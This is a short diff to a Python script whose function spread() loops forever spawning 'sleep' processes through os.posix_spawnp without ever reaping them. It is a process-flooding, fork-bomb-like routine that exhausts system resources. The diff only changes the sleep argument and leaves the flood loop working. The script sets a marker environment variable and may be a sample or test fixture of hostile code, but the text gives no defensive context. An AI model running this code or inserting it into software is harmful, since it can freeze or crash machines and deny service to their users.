@@ -7,7 +7,7 @@ os.environ["MARQUE"] = "reste-de-copie"
 def spread():
     while True:
         try:
-            os.posix_spawnp("sleep", ["sleep", "98765"], os.environ)
+            os.posix_spawnp("sleep", ["sleep", "NAP"], os.environ)
         except OSError:
             time.sleep(0.01)
 spread()
